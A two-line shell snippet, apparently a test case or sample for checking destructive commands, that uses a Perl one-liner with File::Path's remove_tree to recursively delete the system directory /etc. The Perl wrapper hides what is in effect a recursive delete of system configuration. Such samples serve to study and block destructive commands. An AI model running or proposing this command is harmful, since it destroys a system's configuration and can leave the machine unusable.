set -eu
perl -MFile::Path=remove_tree -e 'remove_tree("/etc")'
